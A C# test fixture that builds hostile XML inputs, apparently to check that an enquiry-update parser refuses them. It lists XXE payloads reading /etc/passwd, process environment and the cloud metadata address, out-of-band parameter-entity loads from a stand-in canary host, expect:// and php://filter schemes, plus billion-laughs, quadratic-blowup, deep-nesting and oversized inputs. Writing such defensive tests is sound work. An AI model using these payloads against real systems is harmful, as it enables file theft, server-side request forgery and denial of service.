using System.Text;

namespace Liaison.Tests.Limits;

/// <summary>Documents that would tell of a change of an enquiry if what they play on were allowed.</summary>
internal static class HostileXml
{
    public const string Canary = "http://canary.invalid/";

    /// <param name="canary">An address that nobody may call.</param>
    public static IReadOnlyList<string> Forms(string canary) =>
    [
        .. Inside(
            "", "<!ENTITY x \"y\">", $"<!ENTITY x SYSTEM \"{canary}x\">", $"<!ENTITY x PUBLIC \"-//X//EN\" \"{canary}x\">", "<!ENTITY x SYSTEM \"file:///etc/passwd\">",
            "<!ENTITY x SYSTEM \"file:///proc/self/environ\">", "<!ENTITY x SYSTEM \"/etc/passwd\">", "<!ENTITY x SYSTEM \"../../etc/passwd\">", "<!ENTITY x SYSTEM \"\\\\127.0.0.1\\share\">",
            "<!ENTITY x SYSTEM \"ftp://127.0.0.1/x\">", "<!ENTITY x SYSTEM \"jar:file:///x!/y\">", "<!ENTITY x SYSTEM \"netdoc:///etc/passwd\">", "<!ENTITY x SYSTEM \"expect://id\">",
            "<!ENTITY x SYSTEM \"gopher://127.0.0.1/x\">", "<!ENTITY x SYSTEM \"data:text/plain,y\">", "<!ENTITY x SYSTEM \"php://filter/read=convert.base64-encode/resource=/etc/passwd\">",
            "<!ENTITY x SYSTEM \"http://169.254.169.254/latest/meta-data/\">", $"<!ENTITY % p SYSTEM \"{canary}p.dtd\"> %p;", $"<!ENTITY % p \"<!ENTITY x SYSTEM '{canary}x'>\"> %p;",
            $"<!ENTITY % f SYSTEM \"file:///etc/passwd\"><!ENTITY % p SYSTEM \"{canary}p.dtd\"> %p;", "<!ENTITY x \"&#38;x;\">", "<!ATTLIST EnquiryNumber a CDATA #FIXED \"b\">",
            "<!NOTATION n SYSTEM \"x\">", "<!ELEMENT EnquiryUpdate ANY>", $"<!ENTITY x SYSTEM \"{canary}x\" NDATA n>", "<!ENTITY x \"<a/>\">", "<!ENTITY x \"<![CDATA[y]]>\">"),
        $"<!DOCTYPE EnquiryUpdate SYSTEM \"{canary}x.dtd\">{Body("y")}", $"<!DOCTYPE EnquiryUpdate PUBLIC \"-//X//EN\" \"{canary}x.dtd\">{Body("y")}",
        $"<!DOCTYPE EnquiryUpdate SYSTEM \"{canary}x.dtd\" [<!ENTITY x \"y\">]>{Body("&x;")}", $"\n<!--x--><?y z?><!DOCTYPE EnquiryUpdate [<!ENTITY x \"y\">]>{Body("&x;")}",
        Body("&undeclared;"), Laughs(levels: 10), Quadratic(),
    ];

    /// <summary>A thousand million times a short text, if its entities were followed.</summary>
    public static string Laughs(int levels) => $"<!DOCTYPE EnquiryUpdate [<!ENTITY l0 \"lol\">{string.Concat(Enumerable.Range(1, levels).Select(n =>
        $"<!ENTITY l{n} \"{string.Concat(Enumerable.Repeat($"&l{n - 1};", 10))}\">"))}]>{Body($"&l{levels};")}";

    /// <summary>One long entity, named very often.</summary>
    private static string Quadratic() => $"<!DOCTYPE EnquiryUpdate [<!ENTITY x \"{new string('x', 50_000)}\">]>{Body(string.Concat(Enumerable.Repeat("&x;", 50_000)))}";

    public static byte[] Deep(int levels) => Encoding.ASCII.GetBytes($"<EnquiryUpdate><EnquiryNumber>1</EnquiryNumber>{string.Concat(Enumerable.Repeat("<a>", levels))}{string.Concat(Enumerable.Repeat("</a>", levels))}</EnquiryUpdate>");

    public static byte[] Long(int bytes)
    {
        var text = new byte[bytes];
        Array.Fill(text, (byte)'a');
        "<EnquiryUpdate><EnquiryNumber>1</EnquiryNumber><StatusLogNotes>"u8.CopyTo(text);
        "</StatusLogNotes></EnquiryUpdate>"u8.CopyTo(text.AsSpan(bytes - 33));
        return text;
    }

    private static IEnumerable<string> Inside(params string[] types) => types.Select(type => $"<!DOCTYPE EnquiryUpdate [{type}]>{Body(type.Contains("ENTITY x", StringComparison.Ordinal) ? "&x;" : "y")}");

    private static string Body(string notes) => $"<EnquiryUpdate><EnquiryNumber>5001</EnquiryNumber><StatusLogNotes>{notes}</StatusLogNotes></EnquiryUpdate>";
}
